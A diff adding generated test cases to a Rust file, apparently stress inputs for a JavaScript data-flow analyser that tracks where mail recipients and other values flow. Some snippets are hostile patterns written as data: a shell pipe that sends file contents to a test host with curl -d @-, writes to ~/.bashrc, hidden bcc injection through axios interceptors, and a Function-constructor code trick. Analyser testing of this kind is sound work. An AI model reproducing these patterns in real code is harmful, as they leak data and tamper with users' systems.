@@ -341,6 +341,116 @@ pub(crate) const CASES: &[Case] = &[
         },
     },
     Case {
+        name: "yields of one generator",
+        make: |n| body(&format!("function* g() {{ {} }}", lines(n, |i| format!("yield 'a{i}';"))), "[...g()][1]"),
+    },
+    Case {
+        name: "what one generator is sent",
+        make: |n| {
+            body(
+                &format!("function* g() {{ const x = yield; sg.send(x); }}\nconst it = g();\n{}", {
+                    lines(n, |i| format!("it.next({{ to: 'a{i}@b.test' }});"))
+                }),
+                "'a'",
+            )
+        },
+    },
+    Case {
+        name: "tagged templates in each other",
+        make: |n| body("const t = (texts, x) => texts[0] + x + texts[1];", &nested(n, "t`a${", "'b'", "}c`")),
+    },
+    Case { name: "posts to one listener", make: |n| messages(1, n) },
+    Case { name: "listeners and posts", make: |n| messages(n, n) },
+    Case {
+        name: "call of call of call",
+        make: |n| body("const f = (x) => x;", &format!("f{}(null, 'a')", ".call".repeat(n))),
+    },
+    Case {
+        name: "timers with arguments",
+        make: |n| body(&lines(n, |i| format!("setTimeout((to) => sg.send({{ to }}), 5, 'a{i}@b.test');")), "'a'"),
+    },
+    Case {
+        name: "throws in one try",
+        make: |n| {
+            let throws = lines(n, |i| format!("if (process.env.A{i}) throw {{ x: 'a{i}' }};"));
+            body(&format!("let y; try {{ {throws} }} catch (e) {{ y = e.x; }}"), "y")
+        },
+    },
+    Case {
+        name: "functions that replace themselves",
+        make: |n| {
+            body(
+                &lines(n, |i| {
+                    let next = i + 1;
+                    format!("function f{i}() {{ f{i} = (x) => f{next}(x); return f{i}.apply(this, arguments); }}")
+                }),
+                "f0('a')",
+            )
+        },
+    },
+    Case {
+        name: "objects that make texts of themselves",
+        make: |n| {
+            body(
+                &format!("const o0 = {{ toString: () => 'a' }};\n{}", {
+                    lines(n, |i| format!("const o{} = {{ toString: () => `${{o{i}}}b` }};", i + 1))
+                }),
+                &format!("`${{o{n}}}`"),
+            )
+        },
+    },
+    Case {
+        name: "constructors of constructors",
+        make: |n| body("", &format!("[]{}('return 1')()", ".constructor".repeat(n))),
+    },
+    Case {
+        name: "builders that are given to each other",
+        make: |n| {
+            body(
+                &format!(
+                    "const {{ createMimeMessage }} = require('mimetext');\nconst m0 = createMimeMessage();\n{}",
+                    { lines(n, |i| format!("const m{} = createMimeMessage(); m{}.setBcc(m{i});", i + 1, i + 1)) }
+                ),
+                &format!("m{n}.asRaw()"),
+            )
+        },
+    },
+    Case {
+        name: "entries of one map",
+        make: |n| {
+            body(&format!("const m = new Map();\n{}", lines(n, |i| format!("m.set('k{i}', 'a{i}');"))), "m.get('k1')")
+        },
+    },
+    Case { name: "sets in a row", make: |n| body("", &format!("new Map(){}.get('k')", ".set('k', 'a')".repeat(n))) },
+    Case {
+        name: "hooks of a client",
+        make: |n| {
+            let hook =
+                |i| format!("axios.interceptors.request.use((c) => {{ c.data.bcc = 'a{i}@b.test'; return c; }});");
+            body(
+                &format!("const axios = require('axios');\n{}axios.post('https://a.test', {{}});", lines(n, hook)),
+                "'a'",
+            )
+        },
+    },
+    Case {
+        name: "commands in a pipe",
+        make: |n| {
+            body(&format!("require('child_process').exec('{}curl -d @- https://a.test');", "cat x | ".repeat(n)), "'a'")
+        },
+    },
+    Case {
+        name: "files that are written",
+        make: |n| {
+            body(
+                &format!("const fs = require('fs');\n{}", {
+                    lines(n, |i| format!("fs.writeFileSync(process.env.HOME + '/.bashrc', 'a{i}');"))
+                }),
+                "'a'",
+            )
+        },
+    },
+    Case {
         name: "bind in a row",
         make: |n| {
             body(
@@ -806,6 +916,13 @@ fn events(listeners: usize, emits: usize) -> Vec<(String, String)> {
     let on = lines(listeners, |i| format!("bus.on('mail', (m) => sg.send({{ to: m.to, cc: 'a{i}@b.test' }}));"));
     let emit = lines(emits, |i| format!("bus.emit('mail', {{ to: 'b{i}@b.test' }});"));
     body(&format!("const bus = new (require('events'))();\n{on}{emit}"), "'a'")
+}
+
+/// Ends of message ports.
+fn messages(listeners: usize, posts: usize) -> Vec<(String, String)> {
+    let on = lines(listeners, |i| format!("port.on('message', (m) => sg.send({{ to: m.to, cc: 'a{i}@b.test' }}));"));
+    let post = lines(posts, |i| format!("port.postMessage({{ to: 'b{i}@b.test' }});"));
+    body(&format!("const port = new MessageChannel().port1;\n{on}{post}"), "'a'")
 }
 
 fn tools(tools: usize, layers: usize) -> Vec<(String, String)> {
